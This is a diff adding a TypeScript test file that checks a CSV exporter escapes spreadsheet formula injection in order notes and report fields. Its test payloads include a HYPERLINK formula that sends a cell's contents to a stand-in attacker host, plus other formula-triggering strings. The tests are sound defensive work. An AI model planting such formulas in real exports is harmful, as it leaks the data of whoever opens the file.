@@ -1,0 +1,39 @@
+/** What a document may hold in each media type, whatever its values are. */
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import { reportCsv } from '../../examples/orders/print.ts'
+import { t } from '../../src/contract/field.ts'
+import { writeCsv } from '../../src/rest/formats/csv.ts'
+import { json, order, startOrders } from './orders-over-rest.ts'
+
+const formulas = ['=HYPERLINK("http://evil.example"&A1)', '+1+cmd', '-2+3', '@SUM(A1)', '\t=1', '\r=1']
+
+test('A1.6 a cell of text that a spreadsheet would take for a formula begins with an apostrophe; numbers do not', () => {
+  const fields = {
+    text: t.string(),
+    many: t.list(t.string()),
+    whole: t.int(),
+    money: t.decimal(8, 2),
+    real: t.double(),
+    wait: t.duration(),
+  }
+  const rest = { many: ['=1'], whole: -3, money: '-2.50', real: -0.5, wait: '-P1D' }
+  for (const text of [...formulas, 'a=1', ' =1', "'=1"]) {
+    const document = { name: 'row', title: 'Row', fields, value: { text, ...rest }, links: [] }
+    const [, cells] = /^[^\n]*\r\n([^]*)\r\n$/.exec(writeCsv(document, { namespace: '', only: undefined })) ?? []
+    const written = formulas.includes(text) ? `'${text}` : text
+    const quoted = /[",\r]/.test(written) ? `"${written.replaceAll('"', '""')}"` : written
+    assert.equal(cells, `${quoted},"[""=1""]",-3,-2.50,-0.5,-P1D`)
+  }
+})
+
+test('A1.6 notes of customers come out of the CSV of orders as text, and names out of that of a report', async () => {
+  const shop = await startOrders()
+  for (const note of formulas) await shop.as.alice('POST', '/api/v2/orders', json, { ...order, note })
+  const { text } = await shop.as.clara('GET', '/api/v2/orders?fields=note&size=6', { accept: 'text/csv' })
+  assert.doesNotMatch(text, /(?:^|,|\n)"?[=+@\t-]/)
+  assert.equal(text.match(/'[=+@\t\r-]/g)?.length, formulas.length)
+  const row = { product: 'p-1', name: '=1+1', quantity: 1, amount: '1.00' }
+  const report = { from: '2026-01-01', to: '2026-01-02', kind: 'sales', rows: [row], total: '1.00' } as const
+  assert.match(reportCsv(report), /p-1,'=1\+1,1,1\.00/)
+})
